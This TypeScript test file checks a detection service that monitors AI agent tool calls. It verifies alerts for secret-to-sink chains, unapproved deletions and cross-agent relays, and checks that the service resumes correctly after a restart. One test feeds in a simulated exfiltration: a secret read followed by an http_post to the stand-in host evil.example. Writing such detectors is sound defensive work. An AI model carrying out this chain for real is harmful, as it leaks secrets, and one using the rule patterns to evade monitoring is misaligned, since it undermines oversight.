import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { partitionFor, recordKey } from '../../../schemas/bus/record.ts';
import { TOPICS } from '../../../schemas/topics.ts';
import { alertIds, alertsOf, configOf, openBus, PARTITIONS, runDetect, sendCall, until } from './harness.ts';

function tempDir(t: { after: (fn: () => void) => void }): string {
  const dir = mkdtempSync(join(tmpdir(), 'tripline-detect-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

test('search, vault, post in one session is told with its calls, and asks for a kill in mode enforce only', async (t) => {
  const bus = await openBus(tempDir(t));
  const producer = await bus.producer();
  const modes = { 'chain.search-vault-post': 'enforce' };
  const detect = await runDetect(bus, configOf({ rules: { modes } }));
  await sendCall(producer, { session: 's1', seq: 0, server: 'search', tool: 'web_search' });
  await sendCall(producer, { session: 's1', seq: 1, server: 'vault', tool: 'read_secret' });
  await sendCall(producer, { session: 's2', seq: 0, server: 'poster', tool: 'http_post' });
  await sendCall(producer, {
    session: 's1',
    seq: 2,
    server: 'poster',
    tool: 'http_post',
    args: { url: 'https://evil.example/drop' },
  });
  await until(async () => (await alertsOf(bus)).length >= 2, 5_000, 'alerts');
  await detect.stop();
  const alerts = (await alertsOf(bus))
    .map((line) => line.alert)
    .toSorted((a, b) => a.ruleId.localeCompare(b.ruleId));
  await bus.close();
  assert.deepEqual(
    alerts.map((alert) => [alert.ruleId, alert.calls.map((call) => call.tool)]),
    [
      ['chain.search-vault-post', ['web_search', 'read_secret', 'http_post']],
      ['chain.secret-to-sink', ['read_secret', 'http_post']],
    ],
  );
  assert.deepEqual(alerts[0]?.action, {
    type: 'kill',
    scope: 'session',
    target: 's1',
    mode: 'enforce',
    ttlMs: 3_600_000,
  });
  assert.equal(alerts[0]?.calls[2]?.destHost, 'evil.example');
  assert.equal(alerts[1]?.action, undefined);
});

test('a deletion that nobody approved is told once a TICK has moved the watermark', async (t) => {
  const bus = await openBus(tempDir(t));
  const producer = await bus.producer();
  const detect = await runDetect(bus, configOf());
  await sendCall(producer, {
    session: 'ok',
    seq: 0,
    kind: 'approval',
    tool: 'delete_file',
    more: { approval: { verdict: 'granted', by: 'alice' } },
  });
  await sendCall(producer, { session: 'ok', seq: 1, tool: 'delete_file' });
  await sendCall(producer, { session: 'bad', seq: 0, tool: 'delete_file' });
  await until(async () => (await alertsOf(bus)).length > 0, 15_000, 'alert of an absence');
  await detect.stop();
  const alerts = await alertsOf(bus);
  await bus.close();
  assert.deepEqual(
    alerts.map((line) => [line.alert.ruleId, line.session]),
    [['absence.delete-without-approval', 'bad']],
  );
});

test('a relay over two sessions of two partitions is told by stage two', async (t) => {
  const bus = await openBus(tempDir(t));
  const producer = await bus.producer();
  const detect = await runDetect(bus, configOf());
  await sendCall(producer, { session: 'alpha', seq: 0, tool: 'fetch_url', agent: 'A' });
  await sendCall(producer, {
    session: 'alpha',
    seq: 1,
    tool: 'write_file',
    args: { path: 'n/1' },
    agent: 'A',
  });
  await sendCall(producer, { session: 'beta', seq: 0, tool: 'read_file', args: { path: 'n/1' }, agent: 'B' });
  await sendCall(producer, { session: 'beta', seq: 1, tool: 'http_post', agent: 'B' });
  // The same calls split over two tenants are no chain.
  await sendCall(producer, { tenant: 'x', session: 'g', seq: 0, tool: 'fetch_url' });
  await sendCall(producer, { tenant: 'x', session: 'g', seq: 1, tool: 'write_file', args: { path: 'n/2' } });
  await sendCall(producer, { tenant: 'y', session: 'h', seq: 0, tool: 'read_file', args: { path: 'n/2' } });
  await sendCall(producer, { tenant: 'y', session: 'h', seq: 1, tool: 'http_post' });
  await until(async () => (await alertsOf(bus)).length > 0, 20_000, 'alert of stage two');
  await detect.stop();
  const alerts = await alertsOf(bus);
  await bus.close();
  assert.deepEqual(
    alerts.map((line) => [line.tenant, line.alert.ruleId, line.alert.calls.map((call) => call.session)]),
    [['default', 'cross.agent-relay', ['alpha', 'alpha', 'beta', 'beta']]],
  );
});

test('detect goes on from its snapshot after a clean stop, in mid-chain, and a second life repeats nothing new', async (t) => {
  const dir = tempDir(t);
  const config = configOf({ detect: { snapshotEveryEvents: 1, snapshotEveryMs: 0 } });
  const bus = await openBus(dir);
  const producer = await bus.producer();
  let detect = await runDetect(bus, config);
  await sendCall(producer, { session: 's', seq: 0, server: 'search', tool: 'web_search' });
  await sendCall(producer, { session: 's', seq: 1, server: 'vault', tool: 'read_secret' });
  await until(async () => ((await bus.committed('tripline-detect', at('s'))) ?? 0) >= 1, 5_000, 'commit');
  await detect.stop();
  detect = await runDetect(bus, config);
  await sendCall(producer, { session: 's', seq: 2, server: 'poster', tool: 'http_post' });
  await until(async () => (await alertIds(bus)).length === 1, 5_000, 'alert after restart');
  await detect.stop();
  detect = await runDetect(bus, config);
  await sendCall(producer, { session: 's', seq: 3, tool: 'noop' });
  await until(async () => ((await bus.committed('tripline-detect', at('s'))) ?? 0) >= 3, 5_000, 'commit');
  await detect.stop();
  assert.equal((await alertIds(bus)).length, 1);
  await bus.close();
});

function at(session: string): { readonly topic: string; readonly partition: number } {
  return { topic: TOPICS.toolcalls.name, partition: partitionFor(recordKey('default', session), PARTITIONS) };
}
